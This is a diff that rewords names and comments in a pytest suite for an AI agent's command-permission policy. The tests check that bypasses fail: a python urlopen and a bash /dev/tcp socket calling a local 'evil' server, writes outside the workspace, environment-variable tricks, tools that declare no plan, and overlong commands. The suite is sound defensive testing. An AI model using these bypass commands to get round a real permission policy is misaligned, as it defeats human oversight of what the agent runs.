@@ -1,4 +1,4 @@
-"""Ways past the policy that do not go through a rule: each really does its work where the policy is not asked."""
+"""Bypasses of the policy that involve no rule: each really works if the policy is not asked."""
 
 from __future__ import annotations
 
@@ -29,7 +29,7 @@ def policy(*rules: Rule) -> dict[str, Any]:
 # ---------------------------------------------------------------------------------------------- what a rule allows
 
 
-async def test_to_allow_a_command_is_not_to_allow_it_the_network(scene: Scene, evil: Server) -> None:
+async def test_allowing_a_command_does_not_allow_it_the_network(scene: Scene, evil: Server) -> None:
     send = f"import urllib.request as u; u.urlopen('http://127.0.0.1:{evil.port}/gone')"
     calls = call("exec", command=f'python3 -c "{send}"', network=True)
     for allowed in (
@@ -46,10 +46,10 @@ async def test_to_allow_a_command_is_not_to_allow_it_the_network(scene: Scene, e
     named = Rule(do="allow", command="python3", network=True), Rule(do="allow", network=True, tainted=True)
     for number, allowed in enumerate(named, 1):
         attack = await scene.run(calls, **policy(allowed))
-        assert len(evil.requests) == number, attack.results  # so the attack is a real one
+        assert len(evil.requests) == number, attack.results  # so the attack is real
 
 
-async def test_a_whole_tool_that_is_allowed_is_asked_for_the_network(scene: Scene, evil: Server) -> None:
+async def test_a_generally_allowed_tool_still_needs_approval_for_the_network(scene: Scene, evil: Server) -> None:
     command = f"exec 3<>/dev/tcp/127.0.0.1/{evil.port}; echo GET /gone >&3"
     model = ScriptedProvider([call("exec", command=command, network=True), "done"])
     config = Config(policy=(Rule(do="allow", tool="exec"),))
@@ -82,7 +82,7 @@ async def test_a_whole_tool_that_is_allowed_is_asked_for_the_network(scene: Scen
         "bash -c 'echo gone > {target}'",
     ],
 )
-async def test_to_allow_a_command_is_not_to_allow_it_files_outside(scene: Scene, line: str) -> None:
+async def test_allowing_a_command_does_not_allow_it_files_outside(scene: Scene, line: str) -> None:
     target = scene.outside / "gone"
     rules = Rule(do="allow", command="echo"), Rule(do="allow", command="cd"), Rule(do="deny", tool="exec")
     await scene.run(call("exec", command=line.format(target=target)), exec_config=UNCONFINED, **policy(*rules))
@@ -92,7 +92,7 @@ async def test_to_allow_a_command_is_not_to_allow_it_files_outside(scene: Scene,
 
 
 def program(scene: Scene, path: Path) -> Path:
-    """A program that leaves the canary outside."""
+    """A program that creates the canary outside."""
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text(f"#!/bin/sh\ntouch {scene.outside}/canary\n")
     path.chmod(path.stat().st_mode | stat.S_IXUSR)
@@ -122,7 +122,7 @@ async def test_no_variable_makes_an_allowed_command_run_something_else(
     (scene.workspace / "Makefile").write_text("all: ;\n")
     (scene.workspace / "thing.c").write_text("int a;\n")
     command = line.format(evil=evil, run=run)
-    # The canary sings where the rules do not stop it: the attack is a real one.
+    # Without the rules, the canary is created: the attack is real.
     await scene.run(call("exec", command=command), exec_config=UNCONFINED, **policy(Rule(do="allow", tool="exec")))
     sings = (scene.outside / "canary").exists()
     (scene.outside / "canary").unlink(missing_ok=True)
@@ -142,7 +142,7 @@ async def test_only_harmless_variables_may_be_set_for_an_allowed_command(scene: 
     assert not (scene.workspace / "ran").exists()
 
 
-async def test_harmless_variables_and_the_shells_own_are_no_obstacle(scene: Scene) -> None:
+async def test_harmless_variables_and_the_shells_own_are_accepted(scene: Scene) -> None:
     (scene.workspace / "Makefile").write_text("all: ; @echo x >> ran\n")
     lines = ("LC_ALL=C make", "TZ=UTC NO_COLOR=1 make", "env CI=1 make", "for one in 1 2; do make; done", "n=1; make")
     await scene.run(*(call("exec", command=line) for line in lines), **policy(*ALLOWED_MAKE))
@@ -153,7 +153,7 @@ async def test_harmless_variables_and_the_shells_own_are_no_obstacle(scene: Scen
 
 
 class Unplanned(Tool):
-    """Acts, but never says what it would do."""
+    """A tool that acts without declaring what it would do."""
 
     name = "unplanned"
     description = "acts"
@@ -176,12 +176,12 @@ class Unplanned(Tool):
 @pytest.mark.parametrize("rules", [(), (Rule(do="deny", tool="*"),), (Rule(do="ask", tool="un*"),),
     (Rule(do="deny", path="secrets/**"), Rule(do="allow", tool="*")), (Rule(do="deny", origin="cli:*"),),
     (Rule(do="allow", command="*"),), (Rule(do="deny", network=True), Rule(do="allow"))])  # fmt: skip
-async def test_a_call_without_a_plan_is_not_let_through(scene: Scene, error: Any, rules: Any) -> None:
+async def test_a_call_without_a_plan_is_not_allowed(scene: Scene, error: Any, rules: Any) -> None:
     place = scene.outside / "gone"
     scene.tools = [Unplanned(place, error)]
     attack = await scene.run(call("unplanned", text="x"), **policy(*rules))
     assert not place.exists()
-    assert attack.answer == "done"  # the turn goes on
+    assert attack.answer == "done"  # the turn continues
 
 
 async def test_a_call_without_a_plan_may_be_allowed_by_its_name(scene: Scene) -> None:
@@ -214,13 +214,13 @@ LONG = {
 
 
 @pytest.mark.parametrize("command", LONG.values(), ids=LONG)
-async def test_a_long_command_does_not_hold_up_the_event_loop(scene: Scene, command: str) -> None:
+async def test_a_long_command_does_not_block_the_event_loop(scene: Scene, command: str) -> None:
     rules = [Rule(do="deny", command=f"*{'a*' * 8}{n}") for n in range(5)]
     rules += [Rule(do="deny", path=f"**/{n}*x/**") for n in range(5)]
     held_up: list[float] = []
 
     async def watch() -> None:
-        before = time.thread_time()  # of the loop's own thread: what other processes do does not count
+        before = time.thread_time()  # CPU time of the loop's own thread, independent of other processes
         while True:
             await asyncio.sleep(0)
             held_up.append(time.thread_time() - before)
@@ -229,14 +229,14 @@ async def test_a_long_command_does_not_hold_up_the_event_loop(scene: Scene, comm
     model = ScriptedProvider(["hello", call("exec", command=command), *["done"] * 4])  # the long history is summarised
     settings = {"store": scene.root / "store.db", "restrict_to_workspace": True, **policy(*rules)}
     async with AgentLoop(MessageBus(), model, scene.workspace, **settings) as agent:
-        await agent.process_direct("hello")  # what is imported and made once
+        await agent.process_direct("hello")  # one-time imports and initialization
         watching = asyncio.create_task(watch())
         assert await agent.process_direct("do it") == "done"
         watching.cancel()
     assert max(held_up) < 0.05
 
 
-async def test_what_is_too_long_to_be_read_is_allowed_by_no_rule_and_asked_of_nobody(scene: Scene) -> None:
+async def test_a_command_too_long_to_parse_is_allowed_by_no_rule_and_never_asked_about(scene: Scene) -> None:
     long = f"touch {scene.workspace}/gone; " + "true; " * 4_000
     for last in ("ask", "deny"):
         rules = Rule(do="allow", command="*"), Rule(do=last, tool="exec")
